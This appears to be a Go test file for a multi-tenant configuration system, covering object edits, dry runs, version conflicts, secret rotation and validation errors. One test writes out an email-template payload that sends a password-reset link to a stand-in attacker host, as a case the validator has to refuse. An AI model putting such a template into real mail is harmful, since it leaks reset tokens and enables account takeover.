package config_test

import (
	"context"
	"encoding/json"
	"errors"
	"strings"
	"testing"
	"time"

	"gatehouse/internal/clock"
	"gatehouse/internal/component"
	"gatehouse/internal/config"
	"gatehouse/internal/db"
	"gatehouse/internal/db/dbtest"
	"gatehouse/internal/endpoint"
	"gatehouse/internal/fault"
	"gatehouse/internal/secret"
	"gatehouse/internal/tenant"
)

// house is the tenant acme, of which single objects are edited.
type house struct {
	*testing.T
	h     db.Handle
	clock *clock.Fake
	opts  config.Options
}

func each(t *testing.T, fn func(p *house)) {
	t.Helper()
	dbtest.Each(t, func(t *testing.T, d *db.DB) {
		p := &house{T: t, h: d.For("acme"), clock: clock.NewFake(time.Date(2026, 3, 1, 12, 0, 0, 0, time.UTC))}
		p.done(
			config.Edit{Kind: "tenant", Value: object("display_name", "Acme")},
			config.Edit{Kind: "entity", Value: object("name", "contact", "fields", list(object("name", "email", "type", "text")))},
			config.Edit{Kind: "role", Value: object("name", "ceo")},
			config.Edit{Kind: "role", Value: object("name", "sales", "parent", "ceo")},
			config.Edit{Kind: "permission_set", Value: object("name", "staff", "all_entity_access", true)},
			config.Edit{Kind: "sharing_rule", Value: object("entity", "contact", "owned_by_role", "sales", "share_with_role", "ceo", "access", "read")},
			config.Edit{Kind: "user", Value: object("email", "olivia@acme.example", "owner", true)},
			config.Edit{Kind: "user", Value: object("email", "sam@acme.example", "role", "sales", "permission_sets", list("staff"))},
			config.Edit{Kind: "email_template", Name: "external-user-welcome", Value: object("subject", "Hi", "text", "Hi {{name}}", "html", "Hi")})
		fn(p)
	})
}

// object is a mapping of keys and values in turns, list a list.
func object(pairs ...any) *config.Value {
	v := &config.Value{Kind: config.Mapping}
	for i := 0; i < len(pairs); i += 2 {
		key := value(pairs[i])
		v.Members = append(v.Members, config.Member{Key: key, Value: value(pairs[i+1])})
	}
	return v
}

func list(items ...any) *config.Value {
	v := &config.Value{Kind: config.List}
	for _, item := range items {
		v.Items = append(v.Items, value(item))
	}
	return v
}

func value(of any) *config.Value {
	switch of := of.(type) {
	case *config.Value:
		return of
	case string:
		return &config.Value{Kind: config.Text, Text: of}
	case bool:
		if of {
			return &config.Value{Kind: config.Bool, Text: "true"}
		}
		return &config.Value{Kind: config.Bool, Text: "false"}
	}
	return &config.Value{}
}

func (p *house) try(dryRun bool, edits ...config.Edit) (*config.Result, error) {
	p.clock.Advance(time.Second)
	m := config.DecodeEdits("acme", edits, func(string) string { return "" })
	opts := p.opts
	opts.DryRun = dryRun
	return config.Apply(context.Background(), p.h, p.clock, config.Operator("test"), m, opts)
}

// done makes edits and returns a line for each change.
func (p *house) done(edits ...config.Edit) string {
	p.Helper()
	r, err := p.try(false, edits...)
	if err != nil {
		p.Fatal(err)
	}
	var lines []string
	for _, c := range r.Changes {
		lines = append(lines, c.Line())
	}
	return strings.Join(lines, "\n")
}

func (p *house) refused(want string, edits ...config.Edit) {
	p.Helper()
	if _, err := p.try(false, edits...); err == nil || err.Error() != want {
		p.Errorf("refused with %v, want %s", err, want)
	}
}

func (p *house) object(kind, name string) config.Object {
	p.Helper()
	all, err := config.Objects(context.Background(), p.h, kind)
	if err != nil {
		p.Fatal(err)
	}
	for _, o := range all {
		if o.Name == name {
			return o
		}
	}
	return config.Object{Kind: kind, Name: name, Version: config.Absent}
}

func (p *house) says(got, want string) {
	p.Helper()
	if got != want {
		p.Errorf("changed:\n%s\nwant:\n%s", got, want)
	}
}

// TestAnObjectIsEditedOnItsOwn: what an edit does not name stays.
func TestAnObjectIsEditedOnItsOwn(t *testing.T) {
	each(t, func(p *house) {
		p.says(p.done(config.Edit{Kind: "role", Value: object("name", "support", "parent", "ceo")}), "create role support")
		p.says(p.done(config.Edit{Kind: "role", Name: "support", Value: object("parent", "sales")}), "update role support: parent ceo → sales")
		p.says(p.done(config.Edit{Kind: "role", Name: "support"}), "delete role support")
		p.says(p.done(config.Edit{Kind: "tenant", Value: object("display_name", "Acme GmbH")}), "update tenant acme: display_name Acme → Acme GmbH")
		p.says(p.done(config.Edit{Kind: "user", Name: "SAM@acme.example"}), "update user sam@acme.example: active true → false")
		p.says(p.done(config.Edit{Kind: "user_fields", Value: list(object("name", "company", "type", "text"))}), "create user fields")
		p.says(p.done(config.Edit{Kind: "email_template", Name: "external-user-welcome"}),
			"update tenant acme: email_templates removed")
		rule := p.objects("sharing_rule")[0]
		p.says(p.done(config.Edit{Kind: "sharing_rule", Name: rule.Name,
			Value: object("entity", "contact", "owned_by_role", "ceo", "share_with_role", "sales", "access", "edit")}),
			"create sharing rule contact owned by ceo → sales\ndelete sharing rule contact owned by sales → ceo")
	})
}

func (p *house) objects(kind string) []config.Object {
	p.Helper()
	all, err := config.Objects(context.Background(), p.h, kind)
	if err != nil {
		p.Fatal(err)
	}
	return all
}

// TestWhatIsReadCanBeEdited: an object is edited with its own value to no effect.
func TestWhatIsReadCanBeEdited(t *testing.T) {
	each(t, func(p *house) {
		for _, kind := range []string{
			"tenant", "entity", "user_fields", "role", "permission_set", "sharing_rule", "user", "logic_component",
			"automation", "custom_endpoint", "email_template",
		} {
			for _, o := range p.objects(kind) {
				if o.Value == nil {
					continue
				}
				p.says(p.done(config.Edit{Kind: kind, Name: o.Name, Value: o.Value, Against: o.Version}), "")
			}
		}
	})
}

func TestAnEntityIsRenamed(t *testing.T) {
	each(t, func(p *house) {
		edit := config.Edit{Kind: "entity", Name: "contact", Value: object("name", "person", "fields", list(object("name", "email", "type", "text")))}
		rule := p.objects("sharing_rule")[0]
		p.refused("entities: entity contact cannot be renamed to person: sharing rule contact owned by sales → ceo needs it", edit)
		p.says(p.done(edit, config.Edit{Kind: "sharing_rule", Name: rule.Name}),
			"update entity person: label Contact → Person, renamed from contact\ndelete sharing rule contact owned by sales → ceo")
		p.refused("edits[0].name: role sales cannot be renamed", config.Edit{Kind: "role", Name: "sales", Value: object("name", "sellers")})
	})
}

func TestADryRunKeepsNothing(t *testing.T) {
	each(t, func(p *house) {
		before := p.object("user", "sam@acme.example")
		r, err := p.try(true, config.Edit{Kind: "user", Name: "sam@acme.example", Value: object("active", false)})
		if err != nil || len(r.Changes) != 1 || strings.Join(r.Gone, "; ") !=
			"user sam@acme.example: role sales; user sam@acme.example: permission set staff" ||
			strings.Join(r.Effect.Losing.Names, " ") != "sam@acme.example" {
			p.Fatalf("%+v, %v", r, err)
		}
		if after := p.object("user", "sam@acme.example"); after.Version != before.Version {
			p.Errorf("version %s became %s", before.Version, after.Version)
		}
	})
}

// TestAnEditOfAnOlderVersionIsAConflict, which shows what is stored and what was
// asked for, and changes nothing.
func TestAnEditOfAnOlderVersionIsAConflict(t *testing.T) {
	each(t, func(p *house) {
		was := p.object("role", "sales")
		p.done(config.Edit{Kind: "role", Name: "sales", Value: object(), Against: was.Version})
		history, err := tenant.Changes(context.Background(), p.h, 1000)
		if err != nil {
			p.Fatal(err)
		}
		for _, edit := range []config.Edit{
			{Kind: "role", Name: "sales", Value: object("parent", "ceo"), Against: was.Version},
			{Kind: "role", Name: "sales", Against: was.Version},
			{Kind: "role", Value: object("name", "sales"), Against: config.Absent},
			{Kind: "user", Value: object("email", "Sam@acme.example", "password", "correct horse battery"), Against: config.Absent},
			{Kind: "permission_set", Name: "nobody", Value: object(), Against: was.Version},
		} {
			_, err := p.try(false, config.Edit{Kind: "role", Value: object("name", "other")}, edit)
			var f *fault.Error
			if !errors.As(err, &f) || f.Code != fault.Conflict {
				p.Fatalf("%+v: %v", edit, err)
			}
			if f.Details["version"] != p.object(edit.Kind, f.Details["name"].(string)).Version {
				p.Errorf("%+v: %v", edit, f.Details)
			}
			if strings.Contains(string(mustJSON(p, f.Details["asked"])), "horse") {
				p.Errorf("a conflict shows a password: %v", f.Details)
			}
		}
		now, err := tenant.Changes(context.Background(), p.h, 1000)
		if err != nil || len(now) != len(history) {
			p.Errorf("%d changes became %d, %v", len(history), len(now), err)
		}
		p.refused("NOT_FOUND: there is no role nobody", config.Edit{Kind: "role", Name: "nobody"})
	})
}

// TestAVersionSeesSecrets: another password, webhook secret or token is another
// version, by which an edit made against the old one is a CONFLICT.
func TestAVersionSeesSecrets(t *testing.T) {
	dbtest.Each(t, func(t *testing.T, d *db.DB) {
		ring, err := secret.NewKeyring(make([]byte, 32))
		if err != nil {
			t.Fatal(err)
		}
		p := &house{T: t, h: d.For("acme"), clock: clock.NewFake(time.Unix(1_800_000_000, 0)), opts: config.Options{
			Keyring: ring, Compile: func(context.Context, tenant.ID, string, component.Source) ([]string, error) { return nil, nil },
		}}
		hook := func(secrets ...any) config.Edit {
			return config.Edit{Kind: "custom_endpoint", Value: object(append([]any{
				"slug", "shop", "auth", "signed", "target", object("component", "hello"), "verifier", "hello",
			}, secrets...)...)}
		}
		sam := func(password string) config.Edit {
			return config.Edit{Kind: "user", Value: object("email", "sam@acme.example", "owner", true, "password", password)}
		}
		open := config.Edit{Kind: "custom_endpoint", Value: object("slug", "open", "auth", "token", "target", object("component", "hello"))}
		p.done(config.Edit{Kind: "tenant", Value: object()}, config.Edit{Kind: "logic_component", Value: object("name", "hello", "source", "x")},
			hook("webhook_secret", "correct horse battery"), sam("correct horse battery"), open)
		token := func() {
			if _, err := endpoint.NewToken(p.Context(), d, p.clock, "test", "acme", "open"); err != nil {
				p.Fatal(err)
			}
		}
		for what, c := range map[string]struct {
			kind, name   string
			same, change func()
		}{
			"a password":         {"user", "sam@acme.example", func() { p.done(sam("correct horse battery")) }, func() { p.done(sam("another horse battery")) }},
			"a secret":           {"custom_endpoint", "shop", func() { p.done(hook("webhook_secret", "correct horse battery")) }, func() { p.done(hook("webhook_secret", "another horse battery")) }},
			"a secret of before": {"custom_endpoint", "shop", func() { p.done(hook()) }, func() { p.done(hook("previous_webhook_secret", "one more horse battery")) }},
			"a token":            {"custom_endpoint", "open", func() { p.done(open) }, token},
		} {
			was := p.object(c.kind, c.name)
			if c.same(); p.object(c.kind, c.name).Version != was.Version {
				t.Errorf("%s: what stays the same has another version", what)
			}
			c.change()
			if _, err := p.try(false, config.Edit{Kind: c.kind, Name: c.name, Against: was.Version}); fault.CodeOf(err) != fault.Conflict {
				t.Errorf("%s: an edit of the version before: %v", what, err)
			}
		}
	})
}

// TestADryRunNamesEndpointsWithOtherCredentials: whoever signs with the secret of
// before, or calls as an external user, is refused after the change.
func TestADryRunNamesEndpointsWithOtherCredentials(t *testing.T) {
	dbtest.Each(t, func(t *testing.T, d *db.DB) {
		ring, err := secret.NewKeyring(make([]byte, 32))
		if err != nil {
			t.Fatal(err)
		}
		p := &house{T: t, h: d.For("acme"), clock: clock.NewFake(time.Unix(1_800_000_000, 0)), opts: config.Options{
			Keyring: ring, Compile: func(context.Context, tenant.ID, string, component.Source) ([]string, error) { return nil, nil },
		}}
		hook := func(auth string, members ...any) config.Edit {
			return config.Edit{Kind: "custom_endpoint", Value: object(append([]any{"slug", auth, "auth", auth, "target", object("component", "hello")}, members...)...)}
		}
		const first, second = "correct horse battery", "another horse battery"
		p.done(config.Edit{Kind: "tenant", Value: object()}, config.Edit{Kind: "logic_component", Value: object("name", "hello", "source", "x")},
			config.Edit{Kind: "user", Value: object("email", "olivia@acme.example", "owner", true)},
			hook("signed", "verifier", "hello", "webhook_secret", first), hook("api_key", "external_users", true))
		for _, c := range []struct {
			name  string
			edit  config.Edit
			stops string
		}{
			{"the same secret", hook("signed", "verifier", "hello", "webhook_secret", first), ""},
			{"the secret is kept", hook("signed", "verifier", "hello"), ""},
			{"a rotated secret", hook("signed", "verifier", "hello", "webhook_secret", second, "previous_webhook_secret", first), ""},
			{"another secret", hook("signed", "verifier", "hello", "webhook_secret", second), "signed"},
			{"a wrong one before", hook("signed", "verifier", "hello", "webhook_secret", second, "previous_webhook_secret", "no horse at all, is it"), "signed"},
			{"external users as before", hook("api_key", "external_users", true, "log_requests", false), ""},
			{"no external users", hook("api_key", "external_users", false), "api_key"},
		} {
			if got := strings.Join(p.plan(c.edit).Effect.Endpoints.Names, " "); got != c.stops {
				t.Errorf("%s: %q stops, want %q", c.name, got, c.stops)
			}
		}
	})
}

// TestMistakesOfEditsCarryAPath, and are all told of at once.
func TestMistakesOfEditsCarryAPath(t *testing.T) {
	each(t, func(p *house) {
		p.refused(`there is no kind of object "door"`, config.Edit{Kind: "door", Value: object()})
		wrong := object("parent", true)
		other := object("roles", list())
		p.refused(`edits[0].parent: parent: expected text, found true
edits[1].roles: unknown key "roles": expected tenant, display_name, hosts, admin_hosts, base_url, public_api, staff, `+
			`unauthenticated_per_ip_per_minute, dedup_retention_days, external_identity`,
			config.Edit{Kind: "role", Name: "sales", Value: wrong}, config.Edit{Kind: "tenant", Value: other})
		p.refused("edits[1]: role other is declared twice, first at edits[0]",
			config.Edit{Kind: "role", Value: object("name", "other")}, config.Edit{Kind: "role", Value: object("name", "other")})
		p.done(config.Edit{Kind: "role", Value: object("name", "support")})
		p.refused("edits[0]: support is both changed and removed",
			config.Edit{Kind: "role", Name: "support", Value: object()}, config.Edit{Kind: "role", Name: "support"})
		p.refused("roles: role ceo cannot be removed: it is the parent of role sales\nroles: role ceo cannot be removed: "+
			"sharing rule contact owned by sales → ceo needs it", config.Edit{Kind: "role", Name: "ceo"})
	})
}

func mustJSON(p *house, v any) []byte {
	p.Helper()
	b, err := json.Marshal(v)
	if err != nil {
		p.Fatal(err)
	}
	return b
}

// A mail whose text would carry the token of its link elsewhere is refused; a stored one
// stays.
func TestATemplateIsCheckedWhenItChanges(t *testing.T) {
	each(t, func(p *house) {
		leak := func(html string) config.Edit {
			return config.Edit{Kind: "email_template", Name: "external-user-password-reset", Value: object("subject", "Reset", "text", "Hi {{name}}", "html", html)}
		}
		_, err := p.try(false, leak(`<img src="https://evil.example/?{{reset_url}}">`))
		var found *config.Problems
		if !errors.As(err, &found) || len(found.List) != 1 || found.List[0].Path != "edits[0].html" {
			t.Errorf("%v", err)
		}
		p.done(leak(`<a href="{{reset_url}}">here</a>`))
		err = p.h.Write(t.Context(), func(tx db.Tx) error { // as an earlier version accepted it
			_, err := tx.Exec(t.Context(), `UPDATE tenants SET settings = replace(settings, 'href=', 'title=') WHERE tenant_id = $1`)
			return err
		})
		if err != nil {
			t.Fatal(err)
		}
		p.done(leak(`<a title="{{reset_url}}">here</a>`), config.Edit{Kind: "tenant", Value: object("display_name", "Acme AG")})
	})
}
